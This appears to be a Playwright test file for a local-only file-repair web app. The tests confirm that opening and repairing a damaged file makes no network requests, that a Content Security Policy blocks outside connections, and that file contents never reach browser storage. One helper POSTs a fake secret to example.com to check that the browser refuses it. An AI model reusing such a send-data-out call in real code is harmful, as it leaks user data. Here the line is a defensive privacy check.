import { emberFile } from './support/emberFile.ts';
import { expect, test } from './support/test.ts';

const damaged = emberFile('damaged/flip-value.aof');

test('a file that is opened, searched and repaired causes no request at all', async ({
  app,
  page,
  watch,
}) => {
  expect(watch.requested()).toEqual([]);
  await app.open(damaged.path);
  await app.filterBox.fill('hash:');
  await page.keyboard.press('Enter');
  await app.show('Faults');
  await expect(app.faultCards.first()).toBeVisible();
  await app.show('Repair');
  await expect(page.getByRole('button', { name: 'Save repaired copy…' })).toBeVisible();
  expect(watch.requested()).toEqual([]);
});

/** Tries to send something away, from wherever it runs. @returns whether the browser refused */
async function send(): Promise<boolean> {
  try {
    await fetch('https://example.com/', { method: 'POST', mode: 'no-cors', body: 'a key' });
    return false;
  } catch {
    return true;
  }
}

test('the browser forbids every connection to elsewhere, to the page and to the worker that reads the file', async ({
  page,
  app,
  watch,
}) => {
  await app.open(damaged.path);
  watch.expect(/Content Security Policy/);
  expect(await page.evaluate(send)).toBe(true);
  const [worker] = page.workers();
  expect(await worker?.evaluate(send)).toBe(true);
});

test('the promise says how to check it, and shows the policy in force', async ({ app, page }) => {
  await page.getByRole('button', { name: 'How do I check?' }).click();
  const dialog = app.dialog('Nothing leaves this computer');
  await expect(dialog).toContainText('They are never uploaded, and never changed');
  await expect(dialog).toContainText("connect-src 'self';");
  await expect(dialog).toContainText("default-src 'none';");
});

test('of a file its name and size are remembered, never its content', async ({ app, page }) => {
  const record = (emberFile('intact/base-small.aof').expected.records ?? []).find(({ i }) => i === 5);
  await app.open(damaged.path);
  await app.goTo('5');
  await expect(app.fields).toBeVisible();
  const kept = await page.evaluate(async () => {
    const found: string[] = [
      JSON.stringify({ ...localStorage }),
      JSON.stringify({ ...sessionStorage }),
      location.href,
    ];
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((done) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => done(request.result);
      });
      for (const store of database.objectStoreNames) {
        const values = await new Promise((done) => {
          const request = database.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => done(request.result);
        });
        found.push(JSON.stringify(values));
      }
      database.close();
    }
    return found.join('\n');
  });
  expect(kept).toContain(damaged.name);
  expect(kept).not.toContain(String(record?.key));
  expect(kept).not.toContain('Priya');
});

test('without a network it works as before', async ({ app, page, context }) => {
  await context.setOffline(true);
  await app.open(damaged.path);
  await expect(app.headline).toHaveText(/would recover 33 of 76 records/);
  await app.open(emberFile('intact/base.snap').path);
  await expect(app.headline).toHaveText(/loads all 36 entries/);
  await app.tab(damaged.name).click();
  await app.show('Repair');
  await expect(page.getByRole('button', { name: 'Save repaired copy…' })).toBeVisible();
});
